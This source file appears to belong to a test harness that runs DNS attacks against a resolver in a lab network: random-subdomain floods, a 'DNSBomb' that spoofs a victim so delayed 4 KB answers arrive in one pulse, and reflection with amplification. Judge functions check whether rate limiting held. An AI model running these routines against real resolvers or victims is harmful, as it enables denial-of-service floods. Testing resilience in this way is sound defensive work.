import type { Attack, Facts, Hands } from "../frame/attack.ts";
import { EVIL_ZONES, PLACES } from "../frame/places.ts";
import type { Socket } from "../frame/sockets.ts";
import { query, questionOf, reply, text, truncated, TYPE } from "../frame/wire.ts";

const SUBDOMAINS = 2_000;
/** Queries of one DNSBomb. */
const BOMB = 5_000;
/** Delay from the first query to the simultaneous answers. */
const BOMB_HELD_MS = 1_500;
const BOMB_BYTES = 4_000;
/** Window for counting bytes to the victim. */
const WINDOW_MS = 400;
/** More per window is a pulse. */
const WINDOW_BYTES = 512 * 1024;
const REFLECTED = 2_000;
/** One answer above 512 octets and one below: only larger ones are limited. */
const REFLECTED_BYTES = { large: 1_100, small: 430 } as const;
const LARGE_OCTETS = 512;
/** Default of `rrl`: large answers per second to one address, with a burst of as many more. */
const LARGE_A_SECOND = 200;

async function subdomains(
  { udp, paced }: Hands,
  sources: readonly string[],
): Promise<Facts> {
  const sockets = sources.map((address) => udp({ address }));
  let answered = 0;
  const asked = await paced(
    SUBDOMAINS,
    (n) => {
      const zone = n % 3 === 0 ? EVIL_ZONES.tcp : EVIL_ZONES.udp;
      sockets[n % sockets.length]!.send(query(`x${n}-${Deno.pid}.${zone}`));
    },
    () => sockets.forEach((socket) => answered += socket.drain().count),
  );
  return { asked, answered };
}

export const randomSubdomains: Attack = {
  name: "random-subdomains",
  summary: `${SUBDOMAINS} random names a second of silent zones, from one client.`,
  upstream: () => null,
  attack: (hands) => subdomains(hands, [PLACES.attacker]),
};

export const randomSubdomainsFromTwo: Attack = {
  name: "random-subdomains-two",
  summary: "The same from two clients.",
  upstream: () => null,
  attack: (hands) => subdomains(hands, [PLACES.attacker, "10.244.0.67"]),
};

/** Counts octets that reach the victim, by arrival time. */
class Victim {
  readonly #arrivals: { at: number; bytes: number }[] = [];
  readonly #socket: Socket;
  sent = 0;

  constructor({ udp }: Hands, address: string = PLACES.victim) {
    this.#socket = udp({ address, port: 80 }, { receiveBytes: 32 << 20 });
  }

  ask(message: Uint8Array): void {
    this.sent += message.length;
    this.#socket.send(message);
  }

  collect(): void {
    const at = performance.now();
    for (let got = this.#socket.receive(); got !== null; got = this.#socket.receive()) {
      this.#arrivals.push({ at, bytes: got.length });
    }
  }

  get large(): number {
    return this.#arrivals.filter(({ bytes }) => bytes > LARGE_OCTETS).length;
  }

  get bytes(): number {
    return this.#arrivals.reduce((sum, { bytes }) => sum + bytes, 0);
  }

  /** Most bytes within any window. */
  get pulse(): number {
    let most = 0;
    let sum = 0;
    let first = 0;
    for (const { at, bytes } of this.#arrivals) {
      sum += bytes;
      while (this.#arrivals[first]!.at <= at - WINDOW_MS) sum -= this.#arrivals[first++]!.bytes;
      most = Math.max(most, sum);
    }
    return most;
  }
}

let heldSince = 0;

function heldReply(message: Uint8Array) {
  const now = performance.now();
  if (now - heldSince > BOMB_HELD_MS) heldSince = now;
  return {
    delayMs: heldSince + BOMB_HELD_MS - now,
    message: reply(message, { answers: [text(60, BOMB_BYTES)] }),
  };
}

export const dnsBomb: Attack = {
  name: "dnsbomb",
  summary: `${BOMB} queries in a victim's name, whose answers of 4 KB come all at once.`,
  upstream: (message, transport) => transport === "udp" ? truncated(message) : heldReply(message),
  async attack(hands) {
    const victim = new Victim(hands);
    const rate = BOMB / (BOMB_HELD_MS / 1000);
    await hands.paced(rate, (n) => {
      // The second half repeats a few names, so that many clients wait for one question.
      const name = n % 2 === 0 ? `b${n}` : `b${n % 10}-same`;
      if (n < BOMB) {
        victim.ask(query(`${name}.${EVIL_ZONES.tcp}`, TYPE.TXT, { edns: 4096 }));
      }
    }, () => victim.collect());
    const { sent, bytes, pulse } = victim;
    return { sent, received: bytes, [`most in ${WINDOW_MS} ms`]: pulse };
  },
  judge: ({ facts }) =>
    Number(facts[`most in ${WINDOW_MS} ms`]) > WINDOW_BYTES
      ? [`${facts[`most in ${WINDOW_MS} ms`]} bytes came to the victim within ${WINDOW_MS} ms`]
      : [],
};

export const reflection: Attack = {
  name: "reflection",
  summary:
    `${REFLECTED} queries a second in two victims' names for answers of 1.2 KB and of 512 B.`,
  upstream: (message) => {
    const size = questionOf(message).labels[0] === "large"
      ? REFLECTED_BYTES.large
      : REFLECTED_BYTES.small;
    return reply(message, { answers: [text(600, size)] });
  },
  async attack(hands) {
    const victims = { large: new Victim(hands), small: new Victim(hands, "10.244.7.8") };
    const messages = {
      large: query(`large.${EVIL_ZONES.udp}`, TYPE.TXT, { edns: 4096 }),
      small: query(`small.${EVIL_ZONES.udp}`, TYPE.TXT, { edns: 4096 }),
    };
    const kinds = ["large", "small"] as const;
    await hands.paced(
      REFLECTED,
      (n) => victims[kinds[n % 2]!].ask(messages[kinds[n % 2]!]),
      () => kinds.forEach((kind) => victims[kind].collect()),
    );
    const factor = ({ bytes, sent }: Victim) => Number((bytes / sent).toFixed(1));
    return {
      "large answers": victims.large.large,
      "large answers allowed": Math.ceil(LARGE_A_SECOND * (hands.seconds + 1)),
      "amplification of large ones": factor(victims.large),
      "and of small ones": factor(victims.small),
    };
  },
  judge: ({ facts }) =>
    Number(facts["large answers"]) > Number(facts["large answers allowed"])
      ? [`${facts["large answers"]} large answers came to one victim`]
      : [],
};
